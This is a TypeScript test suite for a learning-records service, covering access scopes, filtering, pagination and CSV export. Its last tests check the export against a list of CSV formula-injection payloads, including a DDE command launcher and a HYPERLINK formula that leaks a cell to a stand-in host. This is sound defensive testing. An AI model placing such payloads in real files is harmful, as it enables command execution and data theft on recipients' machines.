import Papa from "papaparse";
import { afterEach, beforeEach, expect, test } from "vitest";
import type { Scope } from "~/core/access/scope";
import { parseRecordsFilter } from "~/core/completion/records-filter.schema";
import type { Cursor } from "~/core/listing/listing";
import { recordsCsv } from "~/server/learning/records-csv.server";
import {
  countRecords,
  everyRecord,
  filterChoices,
  listRecords,
  type FileRecord,
} from "~/server/learning/records.server";
import { aPerson } from "tests/factories/a-person";
import { aDatabase, type TestDatabase } from "tests/setup/database";
import { fc } from "tests/setup/properties";

let open: TestDatabase;
beforeEach(async () => {
  open = await aDatabase();
});
afterEach(() => open.close());

const everyone: Scope = { of: "everyone" };
const newest = { after: null, size: 50 };

async function aCompletion(
  personId: string,
  slug: string,
  given: { kind?: string; minute?: number } = {},
) {
  const { kind = "lesson", minute = 0 } = given;
  await open.database.completion.create({
    data: {
      personId,
      kind,
      slug,
      title: `Title of ${slug}`,
      revisionHash: "abc",
      rule: "lesson.checks-and-goal@1",
      evidence: "[]",
      because: "Complete because a goal was saved.",
      completedAt: new Date(Date.UTC(2026, 10, 20, 10, minute)),
      timeZone: "Europe/Lisbon",
      requirement: `${personId}:${kind}:${slug}:1`,
    },
  });
}

const slugs = async (scope: Scope, query = "") => {
  const { rows } = await listRecords(
    open.database,
    scope,
    parseRecordsFilter(new URLSearchParams(query)),
    newest,
  );
  return rows.map(({ title }) => title.replace("Title of ", ""));
};

test("a trainer reads everybody's records, a manager only those of their people", async () => {
  const manager = await aPerson(open.database);
  const mine = await aPerson(open.database, { managerId: manager.id });
  const other = await aPerson(open.database);
  await aCompletion(mine.id, "mine", { minute: 1 });
  await aCompletion(other.id, "other", { minute: 2 });
  await aCompletion(manager.id, "own", { minute: 3 });
  const managed: Scope = { of: "managed", managerId: manager.id };
  expect(await slugs(everyone)).toEqual(["own", "other", "mine"]);
  expect(await slugs(managed)).toEqual(["mine"]);
  expect(await slugs({ of: "nobody" })).toEqual([]);
  expect(await slugs(managed, `person=${other.id}`)).toEqual([]);
  expect(await filterChoices(open.database, managed, { person: other.id })).toEqual({
    teams: [],
    personName: null,
  });
  expect(await countRecords(open.database, managed, {})).toBe(1);
});

test("records are narrowed by team, person, kind and words", async () => {
  const ana = await aPerson(open.database, { name: "Ana Reis", team: "Desk" });
  const ben = await aPerson(open.database, { name: "Ben 100%", team: "Phones" });
  await aCompletion(ana.id, "hear");
  await aCompletion(ana.id, "care", { kind: "course", minute: 1 });
  await aCompletion(ben.id, "under_score", { minute: 2 });
  const { teams } = await filterChoices(open.database, everyone, {});
  expect(teams.map(({ name }) => name)).toEqual(["Desk", "Phones"]);
  expect(await slugs(everyone, `team=${teams[1]?.id ?? ""}`)).toEqual(["under_score"]);
  expect(await slugs(everyone, `person=${ana.id}&kind=course`)).toEqual(["care"]);
  expect(await slugs(everyone, "text=reis")).toEqual(["care", "hear"]);
  expect(await slugs(everyone, "text=100%25")).toEqual(["under_score"]);
  expect(await slugs(everyone, "text=r_s")).toEqual(["under_score"]);
  expect(await slugs(everyone, "kind=nonsense&text=")).toHaveLength(3);
  // Too long is cut, never dropped: a list of everybody is not what was asked for.
  expect(await slugs(everyone, `text=${"x".repeat(300)}`)).toEqual([]);
});

test("pages follow each other without a gap or a repeat, also where instants are equal", async () => {
  const person = await aPerson(open.database);
  for (let index = 0; index < 23; index += 1) {
    await aCompletion(person.id, `s${index}`, { minute: Math.floor(index / 5) });
  }
  const read: string[] = [];
  let after: Cursor | null = null;
  do {
    const page = await listRecords(open.database, everyone, {}, { after, size: 4 });
    read.push(...page.rows.map(({ id }) => id));
    after = page.next;
  } while (after !== null);
  expect(new Set(read).size).toBe(23);
  const chunks: string[] = [];
  for await (const rows of everyRecord(open.database, everyone, {}, 5)) {
    chunks.push(...rows.map(([id]) => id));
  }
  expect(chunks).toEqual(read.toReversed());
});

function record(given: { readonly person?: string; readonly team?: string } = {}): FileRecord {
  return [
    "1",
    given.person ?? "Zoë Núñez",
    "zoe@rapport.test",
    given.team ?? null,
    "lesson",
    'The "rules", and\r\nthe people',
    "abc",
    "completed",
    "2026-11-20T10:00:00.000+00:00",
    "Europe/Lisbon",
    "Complete because a goal was saved.",
    null,
  ];
}

async function fileOf(...rows: FileRecord[]): Promise<string> {
  async function* chunks() {
    yield await Promise.resolve(rows);
  }
  let file = "";
  for await (const piece of recordsCsv(chunks())) file += piece;
  return file;
}

test("the file has the columns of the contract, marks its encoding and quotes what it must", async () => {
  expect(await fileOf(record())).toBe(
    '\uFEFF"person","e-mail","team","kind","title","revision","outcome","completed_at","time_zone","because"\r\n' +
      '"Zoë Núñez","zoe@rapport.test","","lesson","The ""rules"", and\r\nthe people","abc","completed",' +
      '"2026-11-20T10:00:00.000Z","Europe/Lisbon","Complete because a goal was saved."\r\n',
  );
});

const corpus = [
  "=1+1",
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.test?x="&A1,"Click")',
  "+1",
  "-1",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1",
  "\r=1",
  "\n=1",
  "  =1",
  "\u00A0=1",
  "\u200B=1",
  "\uFEFF=1",
  "\u0000=1",
  '"=1',
  "'=1",
  "＝1",
  "＋1",
  "－1",
  "＠SUM(1)",
  "−1",
];

test("nothing in the file can be taken for a formula", async () => {
  const file = await fileOf(...corpus.map((person) => record({ person })));
  const people = Papa.parse<string[]>(file.slice(1), { skipEmptyLines: true }).data.slice(1);
  expect(people.map(([person]) => person)).toEqual(corpus.map((text) => `'${text}`));
});

test("every field comes back as it was, but for the mark before what looks like a formula", async () => {
  await fc.assert(
    fc.asyncProperty(fc.string({ unit: "grapheme" }), fc.string(), async (person, team) => {
      const file = await fileOf(record({ person, team }));
      const [, fields] = Papa.parse<string[]>(file.slice(1)).data;
      expect([person, `'${person}`]).toContain(fields?.[0]);
      expect([team, `'${team}`]).toContain(fields?.[2]);
      expect(fields).toHaveLength(10);
    }),
  );
});
